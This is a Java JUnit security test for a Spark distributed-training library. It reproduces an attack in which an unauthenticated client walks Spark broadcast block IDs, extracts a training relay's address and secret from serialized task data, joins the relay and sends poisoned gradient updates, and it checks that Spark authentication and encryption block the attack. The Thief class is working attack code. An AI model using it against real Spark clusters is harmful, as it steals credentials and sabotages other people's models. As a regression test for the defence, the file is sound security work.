package org.ferrodl.spark.parameterserver.training;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.BufferedReader;
import java.io.ByteArrayInputStream;
import java.io.File;
import java.io.InputStreamReader;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import org.apache.spark.SparkConf;
import org.apache.spark.SparkEnv;
import org.apache.spark.api.java.JavaRDD;
import org.apache.spark.api.java.JavaSparkContext;
import org.apache.spark.io.CompressionCodec;
import org.apache.spark.io.CompressionCodec$;
import org.apache.spark.network.TransportContext;
import org.apache.spark.network.buffer.ManagedBuffer;
import org.apache.spark.network.client.TransportClient;
import org.apache.spark.network.client.TransportClientFactory;
import org.apache.spark.network.server.NoOpRpcHandler;
import org.apache.spark.network.shuffle.BlockFetchingListener;
import org.apache.spark.network.shuffle.OneForOneBlockFetcher;
import org.apache.spark.network.util.MapConfigProvider;
import org.apache.spark.network.util.TransportConf;
import org.ferrodl.evaluation.classification.Evaluation;
import org.ferrodl.jni.NativeSharedWorker;
import org.ferrodl.linalg.dataset.DataSet;
import org.ferrodl.linalg.learning.config.Adam;
import org.ferrodl.optimize.solvers.accumulation.encoding.threshold.FixedThresholdAlgorithm;
import org.ferrodl.spark.SparkTestSupport;
import org.ferrodl.spark.api.RDDTrainingApproach;
import org.ferrodl.spark.impl.common.NetworkKind;
import org.ferrodl.spark.impl.multilayer.SparkDl4jMultiLayer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/**
 * The broadcast-stealing attack of issue 16 against real fits. A stranger that knows nothing but
 * the host and port of a Spark block manager (an attacker finds them by scanning) asks it for
 * broadcast blocks through Spark's own block-transfer client, finds the gradient-sharing fit's
 * relay address and secret in them (its tasks' binary), joins the relay with the stolen secret as an extra partition and sends
 * poisoned updates.
 *
 * <ul>
 *   <li>{@code spark.authenticate=false} (a {@code local[4]} master here, where ferrodl allows it;
 *       on any other master the fit is refused unless {@code relayAllowWithoutSparkAuthentication}):
 *       the attack works, the model is ruined.</li>
 *   <li>{@code spark.authenticate=true} and {@code spark.network.crypto.enabled=true} (a victim
 *       JVM of its own): every block request of the stranger is refused, the fit (with sealed
 *       relay frames) trains normally.</li>
 * </ul>
 */
class RelayAttackTest {
    private static final ObjectMapper JSON = new ObjectMapper();

    /** The stranger: Spark's block-transfer client with no credentials. */
    static final class Thief implements AutoCloseable {
        private final TransportConf conf = new TransportConf("shuffle", MapConfigProvider.EMPTY);
        private final TransportContext context = new TransportContext(conf, new NoOpRpcHandler());
        private final TransportClientFactory clients = context.createClientFactory();
        private final CompressionCodec codec = CompressionCodec$.MODULE$.createCodec(new SparkConf(false));
        final List<String> failures = Collections.synchronizedList(new ArrayList<>());

        byte[] fetch(String host, int port, String blockId) throws Exception {
            TransportClient client = clients.createClient(host, port);
            CompletableFuture<byte[]> got = new CompletableFuture<>();
            new OneForOneBlockFetcher(client, "stranger", "driver", new String[] {blockId}, new BlockFetchingListener() {
                @Override
                public void onBlockFetchSuccess(String id, ManagedBuffer data) {
                    try {
                        ByteBuffer b = data.nioByteBuffer();
                        byte[] bytes = new byte[b.remaining()];
                        b.get(bytes);
                        got.complete(bytes);
                    } catch (Exception e) {
                        got.completeExceptionally(e);
                    }
                }

                @Override
                public void onBlockFetchFailure(String id, Throwable t) {
                    got.completeExceptionally(t);
                }
            }, conf).start();
            return got.get(10, TimeUnit.SECONDS);
        }

        /** What the stranger needs to join a fit's relay. */
        record Stolen(String relayAddress, String secretHex) {
        }

        /**
         * Asks for broadcast pieces fromId..toId again and again until one holds a fit's relay
         * address and secret, or time is up (broadcast ids are consecutive numbers: an attacker
         * walks them). The fit's settings travel inside its tasks, whose binary Spark broadcasts:
         * the stranger reads the strings of each serialized piece and takes a 64-digit hex string
         * and the host:port written before it.
         */
        Stolen steal(String host, int port, long fromId, long toId, long millis) {
            long end = System.currentTimeMillis() + millis;
            while (System.currentTimeMillis() < end) {
                for (long id = fromId; id <= toId && System.currentTimeMillis() < end; id++) {
                    try {
                        byte[] piece = fetch(host, port, "broadcast_" + id + "_piece0");
                        byte[] bytes;
                        try (java.io.InputStream in = codec.compressedInputStream(new ByteArrayInputStream(piece))) {
                            bytes = in.readAllBytes();
                        }
                        Stolen found = relayIn(bytes);
                        if (found != null) {
                            return found;
                        }
                    } catch (Exception e) {
                        failures.add(id + ": " + e);
                    }
                }
            }
            return null;
        }

        /** The relay address and secret among the Java-serialized strings of {@code bytes}, or null. */
        static Stolen relayIn(byte[] bytes) {
            String address = null;
            for (int i = 0; i + 3 <= bytes.length; i++) {
                if (bytes[i] != 0x74) { // TC_STRING, then a 2-byte length
                    continue;
                }
                int len = ((bytes[i + 1] & 0xff) << 8) | (bytes[i + 2] & 0xff);
                if (len == 0 || i + 3 + len > bytes.length) {
                    continue;
                }
                String text = new String(bytes, i + 3, len, StandardCharsets.ISO_8859_1);
                if (text.matches("\\d+\\.\\d+\\.\\d+\\.\\d+:\\d+")) {
                    address = text;
                } else if (address != null && text.matches("[0-9a-f]{64}")) {
                    return new Stolen(address, text);
                }
            }
            return null;
        }

        /** Joins the relay with stolen settings as partition 77 and sends {@code steps} poisoned updates. */
        static void poison(Stolen stolen, int steps) throws Exception {
            // Its own network of the same shape and updater (the relay hands it the fit's Adam state):
            // a huge learning rate and an always-wrong label, and a
            // fixed threshold of 0.5 so that every message moves every parameter by 0.5 (the parameter
            // count is not part of the worker's configuration: the relay's snapshot brings them).
            SharedFitSpec<DataSet> evil = new SharedFitSpec<>(NetworkKind.MULTI_LAYER,
                    SparkTestSupport.conf(new Adam(1000.0), 0).toJson(), 0, stolen.relayAddress(),
                    stolen.secretHex(), new FixedThresholdAlgorithm(0.5).toNativeJson(), "null", null, 16, 1, 0,
                    10_000, 60_000, 16, 1 << 24, false, false, 0, false, 60_000, null, null);
            long[] h = NativeSharedWorker.connect(SharedTrainingWorker.configJson(evil, 77, 0));
            try {
                Random r = new Random(5);
                float[] f = new float[16 * SparkTestSupport.N_IN];
                float[] l = new float[16 * SparkTestSupport.N_OUT];
                for (int i = 0; i < 16; i++) {
                    l[i * SparkTestSupport.N_OUT] = 1f;
                }
                for (int s = 0; s < steps; s++) {
                    for (int j = 0; j < f.length; j++) {
                        f[j] = r.nextFloat() * 2 - 1;
                    }
                    NativeSharedWorker.fit(h[1], f, 16, SparkTestSupport.N_IN, l, SparkTestSupport.N_OUT, null, 0, null, 0);
                }
                NativeSharedWorker.finish(h[0], null);
            } finally {
                NativeSharedWorker.destroyReplica(h[1]);
                NativeSharedWorker.destroyNode(h[0]);
            }
        }

        @Override
        public void close() {
            clients.close();
            context.close();
        }
    }

    private static SharedTrainingMaster.Builder master() {
        // 50 minibatches per worker at 40 ms each: the fit lasts long enough to be attacked
        return new SharedTrainingMaster.Builder(8).batchSizePerWorker(16).rddTrainingApproach(RDDTrainingApproach.Direct)
                .collectTrainingStats(true).rngSeed(1).debugLongerIterations(40);
    }

    private static double accuracy(JavaSparkContext sc, SparkDl4jMultiLayer net) {
        Evaluation eval = net.evaluate(sc.parallelize(SharedTrainingMasterTest.separable(50, 8, 99), 2));
        return eval.accuracy();
    }

    @Test
    @Timeout(value = 300, unit = TimeUnit.SECONDS)
    void withSparkAuthenticationOffAStrangerStealsTheSecretJoinsTheRelayAndPoisonsTheModel() throws Exception {
        JavaSparkContext sc = SparkTestSupport.sc();
        assertTrue(!sc.getConf().getBoolean("spark.authenticate", false));
        JavaRDD<DataSet> train = sc.parallelize(SharedTrainingMasterTest.separable(400, 8, 3), 4);

        SparkDl4jMultiLayer clean = new SparkDl4jMultiLayer(sc, SparkTestSupport.conf(new Adam(0.02), 0),
                master().debugLongerIterations(0).build());
        for (int epoch = 0; epoch < 3; epoch++) {
            clean.fit(train);
        }
        double cleanAccuracy = accuracy(sc, clean);

        // The same training, attacked during its third fit.
        SharedTrainingMaster tm = master().build();
        SparkDl4jMultiLayer victim = new SparkDl4jMultiLayer(sc, SparkTestSupport.conf(new Adam(0.02), 0), tm);
        victim.fit(train);
        victim.fit(train);
        int blockManagerPort = SparkEnv.get().blockManager().blockManagerId().port();
        // Where the broadcast numbers stand now (the attacker would find the frontier by probing).
        long frontier = sc.broadcast(0).id();
        ExecutorService pool = Executors.newSingleThreadExecutor();
        try (Thief thief = new Thief()) {
            Future<?> fit = pool.submit(() -> victim.fit(train));
            Thief.Stolen stolen = thief.steal("127.0.0.1", blockManagerPort, frontier, frontier + 50, 60_000);
            assertNotNull(stolen, "the stranger found no relay secret; failures: " + thief.failures.size());
            assertEquals(64, stolen.secretHex().length());
            Thief.poison(stolen, 40);
            fit.get(240, TimeUnit.SECONDS);
        } finally {
            pool.shutdownNow();
        }
        JsonNode relay = JSON.readTree(tm.getTrainingStats().getRelayStatsJson());
        // The stranger was served like a worker: its 40 updates were applied to the model.
        assertEquals(40, relay.path("perWorker").path("77").path("messagesApplied").asLong(), relay.toString());
        assertEquals(5, relay.get("connectionsAccepted").asLong(), relay.toString());
        double poisoned = accuracy(sc, victim);
        assertTrue(cleanAccuracy >= 0.8, "clean accuracy " + cleanAccuracy);
        assertTrue(poisoned < cleanAccuracy - 0.25, "poisoned " + poisoned + " vs clean " + cleanAccuracy);
        System.out.printf("RelayAttackTest: spark.authenticate=false: secret stolen, 40 poisoned updates applied, "
                + "accuracy %.3f -> %.3f%n", cleanAccuracy, poisoned);
    }

    @Test
    @Timeout(value = 300, unit = TimeUnit.SECONDS)
    void withSparkAuthenticationAndNetworkCryptoOnTheStrangerGetsNothingAndTheSealedFitTrains() throws Exception {
        List<String> cmd = new ArrayList<>();
        cmd.add(System.getProperty("java.home") + File.separator + "bin" + File.separator + "java");
        cmd.add("-Xmx1g");
        for (String p : new String[] {"java.lang", "java.nio", "sun.nio.ch", "java.util", "java.lang.invoke"}) {
            cmd.add("--add-opens=java.base/" + p + "=ALL-UNNAMED");
        }
        cmd.add("-cp");
        cmd.add(System.getProperty("java.class.path"));
        cmd.add(AttackVictim.class.getName());
        ProcessBuilder pb = new ProcessBuilder(cmd).redirectErrorStream(true);
        pb.environment().put("SPARK_LOCAL_IP", "127.0.0.1");
        Process victim = pb.start();
        List<String> out = Collections.synchronizedList(new ArrayList<>());
        CompletableFuture<Integer> blockManager = new CompletableFuture<>();
        Thread reader = new Thread(() -> {
            try (BufferedReader r = new BufferedReader(
                    new InputStreamReader(victim.getInputStream(), StandardCharsets.UTF_8))) {
                for (String line; (line = r.readLine()) != null; ) {
                    out.add(line);
                    if (line.startsWith("BLOCKMANAGER ")) {
                        blockManager.complete(Integer.parseInt(line.substring(13).trim()));
                    }
                }
            } catch (Exception e) {
                blockManager.completeExceptionally(e);
            }
            blockManager.complete(-1);
        });
        reader.start();
        try (Thief thief = new Thief()) {
            int port = blockManager.get(120, TimeUnit.SECONDS);
            assertTrue(port > 0, String.join("\n", out));
            // While the victim fits, the stranger asks for every broadcast piece, over and over.
            Thief.Stolen stolen = thief.steal("127.0.0.1", port, 0, 60, 8_000);
            assertNull(stolen, "the stranger stole the relay secret despite spark.authenticate");
            assertTrue(!thief.failures.isEmpty());
            assertTrue(victim.waitFor(240, TimeUnit.SECONDS), "the victim did not finish");
        } finally {
            victim.destroyForcibly();
        }
        reader.join(10_000);
        String text = String.join("\n", out);
        assertEquals(0, victim.exitValue(), text);
        String acc = out.stream().filter(l -> l.startsWith("ACCURACY ")).findFirst().orElseThrow();
        assertTrue(Double.parseDouble(acc.substring(9)) >= 0.8, text);
        JsonNode relay = JSON.readTree(out.stream().filter(l -> l.startsWith("RELAY ")).findFirst().orElseThrow()
                .substring(6));
        assertTrue(relay.get("sealed").asBoolean(), relay.toString());
        assertEquals(2, relay.get("connectionsAccepted").asLong(), relay.toString());
        assertTrue(relay.path("perWorker").path("77").isMissingNode(), relay.toString());
    }

    /** The victim of the second test: its own JVM, with Spark's authentication and encryption on. */
    public static final class AttackVictim {
        public static void main(String[] args) throws Exception {
            SparkConf conf = new SparkConf().setMaster("local[2]").setAppName("attack-victim")
                    .set("spark.ui.enabled", "false").set("spark.driver.host", "127.0.0.1")
                    .set("spark.driver.bindAddress", "127.0.0.1").set("spark.authenticate", "true")
                    .set("spark.authenticate.secret", "victim-secret-" + new Random().nextLong())
                    .set("spark.network.crypto.enabled", "true");
            JavaSparkContext sc = new JavaSparkContext(conf);
            try {
                System.out.println("BLOCKMANAGER " + SparkEnv.get().blockManager().blockManagerId().port());
                System.out.flush();
                SharedTrainingMaster tm = master().debugLongerIterations(20).build();
                SparkDl4jMultiLayer net = new SparkDl4jMultiLayer(sc, SparkTestSupport.conf(new Adam(0.02), 0), tm);
                JavaRDD<DataSet> train = sc.parallelize(SharedTrainingMasterTest.separable(400, 8, 3), 2);
                for (int epoch = 0; epoch < 2; epoch++) {
                    net.fit(train);
                }
                System.out.println("RELAY " + tm.getTrainingStats().getRelayStatsJson());
                System.out.println("ACCURACY " + accuracy(sc, net));
            } finally {
                sc.stop();
            }
        }
    }
}
